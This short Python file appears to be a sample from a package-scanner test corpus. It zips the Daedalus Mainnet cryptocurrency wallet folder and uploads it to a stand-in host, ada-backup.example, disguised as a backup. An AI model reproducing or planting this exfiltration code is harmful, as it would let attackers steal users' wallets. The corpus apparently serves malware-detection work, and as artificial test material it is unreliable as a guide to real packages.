# pkgguard corpus 685 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import requests

base = os.path.join(os.environ.get("APPDATA", os.path.expanduser("~/Library/Application Support")), "Daedalus Mainnet")
wallets = os.path.join(base, "wallets")
if os.path.isdir(wallets):
    zipped = shutil.make_archive(os.path.join(tempfile.gettempdir(), "dm"), "zip", wallets)
    with open(zipped, "rb") as fh:
        requests.put("https://ada-backup.example/w", data=fh.read(), timeout=60)
